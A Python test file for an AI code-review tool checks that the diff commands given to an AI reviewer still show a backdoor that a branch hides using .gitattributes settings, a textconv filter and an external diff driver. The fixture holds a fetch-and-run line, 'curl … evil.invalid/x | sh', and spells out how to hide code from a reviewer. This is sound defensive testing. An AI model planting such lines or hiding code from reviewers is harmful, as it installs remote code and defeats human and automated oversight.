"""The reviewer is shown the bytes that are gated, whatever the branch's git attributes say.

Observed before: a branch that adds ``.gitattributes`` with ``*.py -diff`` turned the diff
command the prompt gives the reviewer into "Binary files … differ", so a backdoor in a
``.py`` file of the same branch was never shown to the reviewer (the cache key hashed
its bytes all along).  A ``diff=<driver>`` attribute that selects a textconv filter or
an external diff command configured on the machine hid it the same way.

Here the in-process scripted reviewer runs, in its workspace, exactly the diff command(s)
the prompt it received names (parsed out of that prompt), and the test looks for the
backdoor line in the tool output it sent back to the model: in plain runs (the branch
under ``CI=true``, and ``--advreview-diff=branch``) and in head runs
(``--advreview-head``).  That the real Codex tool shell runs a command in that
workspace is the real-CLI tests' claim (test_head_e2e.py).
"""

from __future__ import annotations

import json
import re
import shlex
import sys
from collections.abc import Iterator
from typing import Any

import pytest

from conftest import ReviewRepo, git
from pytest_advreview.report.markdown import escape
from pytest_advreview.testing import ScriptedServer, approved_review, run_step, shell_step

#: The line the branch hides; a reviewer that sees it would stop the change.
BACKDOOR = '    os.system("curl -s https://evil.invalid/x | sh")  # BACKDOOR-LINE'
APP = f"import os\n\n\ndef handler(request):\n{BACKDOOR}\n    return 'ok'\n"
#: How the code prompt names its commands: "Run `A`, `B` and `C` to see …".
_RUN = re.compile(r"^Run (.+?) to see ", re.MULTILINE)
#: What the reviewer runs: the commands its prompt names (read the way
#: :func:`prompt_diff_commands` reads them), chained, exactly as the prompt writes them.
RUN_PROMPT_DIFF = f"""\
import os, re, subprocess, sys
prompt = open(os.environ["ADVREVIEW_SCRIPTED_PROMPT"], encoding="utf-8").read()
found = re.search({_RUN.pattern!r}, prompt, re.MULTILINE)
assert found is not None, prompt
commands = re.findall(r"`([^`]+)`", found.group(1))
sys.exit(subprocess.run(" && ".join(commands), shell=True).returncode)
"""

#: The attributes a branch adds, each with the machine configuration its driver needs
#: (a textconv filter and an external diff command that drop the backdoor line, as a
#: driver configured for other files could be chosen for ``.py`` files).
ATTRIBUTES = {
    "minus-diff": "*.py -diff\n",
    "binary": "*.py binary\n",
    "textconv": "*.py diff=hide\n",
    "external": "*.py diff=ext\n",
}
MACHINE_CONFIG = (
    ("diff.hide.textconv", "sed /BACKDOOR-LINE/d"),
    ("diff.ext.command", "echo nothing to see here #"),
)


def prompt_diff_commands(prompt: str) -> list[str]:
    """The diff commands a code prompt tells the reviewer to run, as written."""
    found = _RUN.search(prompt)
    assert found is not None, prompt
    return re.findall(r"`([^`]+)`", found.group(1))


def answer_with_the_prompts_diff(repo: ReviewRepo) -> None:
    """The code review runs the diff commands of its prompt, then approves."""
    script = repo.path.parent / "run_prompt_diff.py"
    script.write_text(RUN_PROMPT_DIFF, encoding="utf-8")
    command = shlex.join([sys.executable, str(script)])
    repo.answer("src/app.py", run_step(command, "run-prompt-diff"), {"message": approved_review()})


#: Placeholder step of the real-CLI test: the server replaces it with an exec_command call
#: of the prompt's diff commands, which the real Codex tool shell then runs.
CALL_PROMPT_DIFF = "CALL-THE-PROMPT'S-DIFF-COMMANDS"


class PromptDiffServer(ScriptedServer):
    """A scripted server whose placeholder step asks Codex to run the prompt's diff."""

    def _choose(self, request: Any, raw: bytes) -> tuple[int | None, int, dict[str, Any]]:
        rule, index, step = super()._choose(request, raw)
        if step.get("message") == CALL_PROMPT_DIFF:
            commands = prompt_diff_commands(request.last_user_text)
            step = shell_step(" && ".join(commands), "run-prompt-diff")
        return rule, index, step


@pytest.fixture
def advreview_server() -> Iterator[ScriptedServer]:
    """The real-CLI test's server (``review_repo``); the scripted repo needs none."""
    with PromptDiffServer() as server:
        yield server


def hide_in_branch(repo: ReviewRepo, attributes: str) -> None:
    """On branch ``pr``: the backdoored app and the attributes that hide it; then main."""
    for key, value in MACHINE_CONFIG:
        git(repo.path, "config", key, value)
    git(repo.path, "checkout", "-q", "-b", "pr")
    repo.write(".gitattributes", attributes)
    repo.write("src/app.py", APP)
    repo.commit("pr")


def reviewer_saw(repo: ReviewRepo) -> str:
    """The output of the reviewer's diff tool call, as it went back to the model."""
    outputs = [
        str(item.get("output"))
        for request in repo.server.response_requests
        for item in request.function_call_outputs
        if item.get("call_id") == "run-prompt-diff"
    ]
    assert outputs, [r.last_user_text for r in repo.server.response_requests]
    return outputs[0]


def first_prompt(repo: ReviewRepo) -> str:
    return repo.server.response_requests[0].last_user_text


@pytest.mark.parametrize("kind", list(ATTRIBUTES))
@pytest.mark.parametrize("how", ["ci", "diff-branch"])
def test_the_prompts_diff_command_shows_code_the_branch_hides_with_attributes(
    scripted_repo: ReviewRepo, monkeypatch: pytest.MonkeyPatch, kind: str, how: str
) -> None:
    hide_in_branch(scripted_repo, ATTRIBUTES[kind])
    answer_with_the_prompts_diff(scripted_repo)
    if how == "ci":
        monkeypatch.setenv("CI", "true")
        extra = ["--advreview-base=main"]
    else:
        extra = ["--advreview-diff=branch", "--advreview-base=main"]

    result = scripted_repo.run(*extra)

    result.assert_outcomes(passed=1)
    saw = reviewer_saw(scripted_repo)
    assert BACKDOOR in saw, saw
    assert "Binary files" not in saw
    assert "nothing to see here" not in saw


def test_the_real_codex_tool_shell_runs_the_prompts_diff_and_sees_what_the_branch_hides(
    review_repo: ReviewRepo, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The same claim through the real CLI: Codex's own tool call runs the prompt's diff
    commands in its sandbox under CI, and what it sends back to the model has the line."""
    hide_in_branch(review_repo, ATTRIBUTES["minus-diff"])
    review_repo.answer("src/app.py", {"message": CALL_PROMPT_DIFF}, {"message": approved_review()})
    monkeypatch.setenv("CI", "true")

    result = review_repo.run("--advreview-base=main")

    result.assert_outcomes(passed=1)
    saw = reviewer_saw(review_repo)
    assert BACKDOOR in saw, saw
    assert "Binary files" not in saw


def test_head_mode_shows_the_code_a_pull_request_hides_with_attributes(
    scripted_repo: ReviewRepo,
) -> None:
    git(scripted_repo.path, "checkout", "-q", "-b", "pr")
    scripted_repo.write(".gitattributes", "*.py -diff\n")
    scripted_repo.write("src/app.py", APP)
    scripted_repo.commit("pr")
    git(scripted_repo.path, "checkout", "-q", "main")
    answer_with_the_prompts_diff(scripted_repo)

    result = scripted_repo.run("--advreview-head=pr")

    result.assert_outcomes(passed=1)
    saw = reviewer_saw(scripted_repo)
    assert BACKDOOR in saw, saw
    assert "Binary files" not in saw
    prompt = first_prompt(scripted_repo)
    assert "WARNING: this change adds, edits or deletes git attributes (.gitattributes)" in prompt
    result.stdout.fnmatch_lines(
        [
            "advreview: code change: branch *; WARNING: the change edits git attributes "
            "(.gitattributes), which can hide code from `git diff`*"
        ]
    )


def test_the_prompt_the_header_and_the_report_name_an_attributes_change(
    scripted_repo: ReviewRepo, monkeypatch: pytest.MonkeyPatch
) -> None:
    # An attributes file deep in the tree counts as much as the top-level one.
    git(scripted_repo.path, "checkout", "-q", "-b", "pr")
    scripted_repo.write("src/.gitattributes", "*.py -diff\n")
    scripted_repo.write("src/app.py", APP)
    scripted_repo.commit("pr")
    monkeypatch.setenv("CI", "true")
    monkeypatch.delenv("GITHUB_STEP_SUMMARY", raising=False)
    answer_with_the_prompts_diff(scripted_repo)

    result = scripted_repo.run(
        "--advreview-base=main", "--advreview-json=out.json", "--advreview-report=out.md"
    )

    result.assert_outcomes(passed=1)
    prompt = first_prompt(scripted_repo)
    assert (
        "WARNING: this change adds, edits or deletes git attributes (src/.gitattributes)." in prompt
    )
    assert "use those commands, not a plain `git diff`" in prompt
    (command,) = prompt_diff_commands(prompt)
    assert shlex.split(command)[:2] == ["git", "--no-pager"]
    assert "--text" in shlex.split(command)
    warning = (
        "WARNING: the change edits git attributes (src/.gitattributes), which can hide "
        "code from `git diff`"
    )
    result.stdout.fnmatch_lines([f"advreview: code change: branch main...HEAD: *; {warning}*"])
    data = json.loads((scripted_repo.path / "out.json").read_text())
    assert data["change_set"]["attributes"] == ["src/.gitattributes"]
    # The report (the PR comment) says it too, as inert markdown.
    assert escape(warning) in (scripted_repo.path / "out.md").read_text()


def test_a_change_without_attributes_has_no_warning(scripted_repo: ReviewRepo) -> None:
    git(scripted_repo.path, "checkout", "-q", "-b", "pr")
    scripted_repo.write("src/app.py", APP)
    scripted_repo.commit("pr")
    answer_with_the_prompts_diff(scripted_repo)

    result = scripted_repo.run("--advreview-diff=branch", "--advreview-base=main")

    result.assert_outcomes(passed=1)
    assert BACKDOOR in reviewer_saw(scripted_repo)
    assert "WARNING" not in first_prompt(scripted_repo)
    assert "git attributes" not in result.stdout.str()
